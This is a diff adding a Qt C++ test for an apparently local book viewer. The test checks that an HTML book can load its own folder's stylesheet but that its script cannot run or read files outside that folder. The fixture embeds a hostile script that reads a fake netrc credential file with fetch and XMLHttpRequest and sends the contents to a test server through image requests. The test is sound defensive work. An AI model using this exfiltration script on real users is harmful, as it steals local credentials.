@@ -187,6 +187,67 @@ private slots:
         QCOMPARE(view.LocationName(), QStringLiteral("Local Book"));
     }
 
+    // An HTML book in the library shows its own folder's style sheet and pictures; its script
+    // can neither run nor read a file of the computer and send it away.
+    void anHtmlBookReadsNothingOutsideItsFolder()
+    {
+        TestAppFolder app;
+        QTemporaryDir outside;
+        const QString secret = outside.filePath(QStringLiteral("netrc"));
+        {
+            QFile file(secret);
+            QVERIFY(file.open(QIODevice::WriteOnly));
+            file.write("machine mail login reader password hunter2");
+        }
+        const QString server = m_server.url(QString());
+        app.addBook(
+            QStringLiteral("style.css"),
+            ("body { background-image: url(\"" + server + "/from-folder-css\"); }").toUtf8());
+        const QString script =
+            QStringLiteral("<script>"
+                           "new Image().src = '%1/script-ran';"
+                           "fetch('%2').then(r => r.text()).then(t => {"
+                           "  new Image().src = '%1/leak?' + encodeURIComponent(t); });"
+                           "var x = new XMLHttpRequest(); x.open('GET', '%2', false);"
+                           "try { x.send(); new Image().src = '%1/leak?' + x.responseText; }"
+                           "catch (e) {}"
+                           "</script>")
+                .arg(server, QUrl::fromLocalFile(secret).toString());
+        const QString path =
+            app.addBook(QStringLiteral("Hostile.htm"),
+                        pageHtml(QStringLiteral("Hostile Book"),
+                                 QStringLiteral("<link rel=\"stylesheet\" href=\"style.css\">"
+                                                "<iframe src=\"%1\"></iframe>%2")
+                                     .arg(QUrl::fromLocalFile(secret).toString(), script)));
+        m_server.clearRequests();
+        WebView view;
+        view.resize(600, 400);
+        view.show();
+        QSignalSpy done(&view, &WebView::DownloadComplete);
+        QVERIFY(view.Navigate(path));
+        QVERIFY(done.wait(LoadTimeout));
+        // The folder's style sheet was read (its picture was asked for)...
+        QCOMPARE(m_server.waitForRequest(QStringLiteral("/from-folder-css")),
+                 QStringLiteral("/from-folder-css"));
+        QTest::qWait(1000);
+        // ...and nothing of the script reached the server.
+        const QStringList targets = m_server.requestTargets();
+        QVERIFY2(targets.filter(QStringLiteral("/leak")).isEmpty(), qPrintable(targets.join(' ')));
+        QVERIFY2(targets.filter(QStringLiteral("/script-ran")).isEmpty(),
+                 qPrintable(targets.join(' ')));
+
+        // A page from the web keeps its scripts.
+        QVERIFY(loadPage(view, QStringLiteral("/one.html")));
+        m_server.clearRequests();
+        QVERIFY(m_server.addFile(
+            QStringLiteral("scripted.html"),
+            pageHtml(QStringLiteral("Scripted"), QStringLiteral("<script>new Image().src = "
+                                                                "'/web-script-ran';</script>"))));
+        QVERIFY(loadPage(view, QStringLiteral("/scripted.html")));
+        QCOMPARE(m_server.waitForRequest(QStringLiteral("/web-script-ran")),
+                 QStringLiteral("/web-script-ran"));
+    }
+
     void homeComesFromTheHostsSettings()
     {
         {
